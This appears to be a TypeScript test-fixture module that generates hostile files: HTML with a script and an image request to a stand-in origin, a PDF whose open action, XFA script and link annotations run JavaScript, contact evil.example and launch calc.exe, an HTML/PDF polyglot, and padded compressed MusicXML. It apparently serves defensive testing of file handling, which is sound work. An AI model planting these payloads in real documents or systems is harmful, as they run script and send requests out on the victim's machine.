import { zipSync } from 'fflate'
import { pdfOf, plainPdf } from './plain-pdf'

/** Another origin. A request to it proves that the browser did not treat a file as plain data. */
const FOREIGN = 'https://evil.example'

/** Markup that opens a dialog and sends a request if a browser parses it as HTML. */
export const HOSTILE_MARKUP = `<html><img src="${FOREIGN}/image"><script>alert(1)</script></html>`

/**
 * Returns a PDF of one page that runs JavaScript and opens an address when it opens. A click on the page starts
 * a program or opens an address. Its form is XFA with a script.
 */
export function hostilePdf(): Buffer {
  const script = `app.alert('open'); app.launchURL('${FOREIGN}/script', true); this.submitForm('${FOREIGN}/form')`
  const link = '/Type /Annot /Subtype /Link /Rect [0 0 595 842] /Border [0 0 0]'
  return pdfOf([
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /Names << /JavaScript 7 0 R >> /AcroForm 8 0 R >>',
    '<< /Type /Pages /Kids [4 0 R] /Count 1 >>',
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> /Contents 5 0 R ' +
      `/AA << /O << /S /URI /URI (${FOREIGN}/page) >> >> /Annots [10 0 R 11 0 R] >>`,
    streamOf('BT /F1 48 Tf 60 720 Td (Hostile) Tj ET'),
    `<< /S /JavaScript /JS (${escaped(script)}) /Next 10 0 R >>`,
    '<< /Names [(first) 6 0 R] >>',
    '<< /Fields [] /XFA 9 0 R >>',
    streamOf(xfaForm(script)),
    `<< ${link} /A << /S /Launch /F (calc.exe) /Win << /F (calc.exe) >> >> >>`,
    `<< ${link} /A << /S /URI /URI (${FOREIGN}/link) >> >>`,
  ])
}

function streamOf(content: string): string {
  return `<< /Length ${content.length} >>\nstream\n${content}\nendstream`
}

function escaped(text: string): string {
  return text.replace(/[\\()]/g, '\\$&')
}

function xfaForm(script: string): string {
  const event = `<event activity="initialize"><script contentType="application/x-javascript">${script}</script></event>`
  const template = 'xmlns="http://www.xfa.org/schema/xfa-template/3.3/"'
  return (
    '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">' +
    `<template ${template}><subform name="form">${event}</subform></template></xdp:xdp>`
  )
}

/** Returns a file that begins as an HTML page with a script, and has a PDF header later. */
export function pdfBehindHtml(): Buffer {
  return Buffer.concat([Buffer.from(HOSTILE_MARKUP, 'latin1'), plainPdf('Polyglot', 1)])
}

/** Returns compressed MusicXML that contains one rest and spaces, and unpacks to `bytes` bytes. */
export function paddedMusicXml(bytes: number): Buffer {
  const container = '<container><rootfiles><rootfile full-path="music.xml"/></rootfiles></container>'
  const music = Buffer.alloc(bytes, ' ')
  music.write(
    '<score-partwise><part-list><score-part id="P1"><part-name>Flute</part-name></score-part></part-list>' +
      '<part id="P1"><measure number="1"><note><rest measure="yes"/><duration>4</duration></note></measure></part>' +
      '</score-partwise>',
  )
  const files = { 'META-INF/container.xml': Buffer.from(container), 'music.xml': music }
  return Buffer.from(zipSync(files))
}
